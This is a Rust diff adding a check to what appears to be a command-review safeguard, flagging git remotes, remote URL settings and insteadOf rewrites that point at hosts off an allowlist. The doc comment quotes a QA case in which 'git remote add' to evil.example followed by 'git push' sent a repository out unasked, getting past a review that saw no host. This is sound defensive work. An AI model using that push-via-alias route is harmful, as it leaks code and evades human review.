@@ -193,6 +193,86 @@ pub(crate) fn git_push(args: &[String], allow: &HostAllowlist, f: &mut Findings)
     }
 }
 
+/// A git remote pointed at a host not on the allowlist: `git remote add
+/// NAME URL`, `git remote set-url NAME URL`, `git config
+/// remote.NAME.url URL` (or `pushurl`), a URL rewrite `git config
+/// url.BASE.insteadOf PREFIX` (or `pushInsteadOf`) whose BASE is such a
+/// host, each also as `git -c KEY=VALUE`. A later `git push NAME` names
+/// no host review can see, so the remote is asked about as it is set
+/// (QA: `git remote add x https://evil.example/r.git`, then `git push
+/// x`, pushed unasked, in one command or two).
+pub(crate) fn git_remote(args: &[String], allow: &HostAllowlist, f: &mut Findings) {
+    let mut hosts = Vec::new();
+    let mut i = 0;
+    // global options, up to the subcommand
+    while let Some(a) = args.get(i) {
+        match a.as_str() {
+            "-c" => {
+                if let Some(kv) = args.get(i + 1) {
+                    let (key, value) = kv.split_once('=').unwrap_or((kv, ""));
+                    hosts.extend(remote_setting_hosts(key, value));
+                }
+                i += 2;
+            }
+            "-C" | "--git-dir" | "--work-tree" | "--namespace" | "--config-env" => i += 2,
+            a if a.starts_with('-') => i += 1,
+            _ => break,
+        }
+    }
+    let rest = args.get(i + 1..).unwrap_or_default();
+    let words: Vec<&str> = rest
+        .iter()
+        .map(String::as_str)
+        .filter(|a| !a.starts_with('-'))
+        .collect();
+    match args.get(i).map(String::as_str) {
+        Some("remote") => {
+            if let ["add" | "set-url", _name, urls @ ..] = words.as_slice() {
+                hosts.extend(urls.iter().filter_map(|u| remote_host(u)));
+            }
+        }
+        Some("config") => match words.as_slice() {
+            ["set", key, value, ..] | [key, value, ..] => {
+                hosts.extend(remote_setting_hosts(key, value));
+            }
+            _ => {}
+        },
+        _ => {}
+    }
+    for host in hosts {
+        if !allow.allows(&host) {
+            f.ask(format!(
+                "points a git remote at {host}, which is not on the review allowlist (a later \
+                 git push would send the repository there)"
+            ));
+        }
+    }
+}
+
+/// The hosts a git setting `key = value` sends pushes to, for the
+/// settings that name a remote's address.
+fn remote_setting_hosts(key: &str, value: &str) -> Vec<String> {
+    let lower = key.to_ascii_lowercase();
+    if lower.starts_with("remote.") && (lower.ends_with(".url") || lower.ends_with(".pushurl")) {
+        return remote_host(value).into_iter().collect();
+    }
+    // url.<base>.insteadOf: addresses starting with the value go to base
+    if let Some(base) = key.get(4..).filter(|_| lower.starts_with("url.")) {
+        for suffix in [".insteadof", ".pushinsteadof"] {
+            if lower.ends_with(suffix) {
+                // (`url.insteadOf` alone has no base)
+                let base = base
+                    .len()
+                    .checked_sub(suffix.len())
+                    .and_then(|end| base.get(..end))
+                    .unwrap_or_default();
+                return remote_host(base).into_iter().collect();
+            }
+        }
+    }
+    Vec::new()
+}
+
 fn wget(args: &[String], allow: &HostAllowlist, f: &mut Findings) {
     let sends = args.iter().any(|a| {
         a.starts_with("--post-")
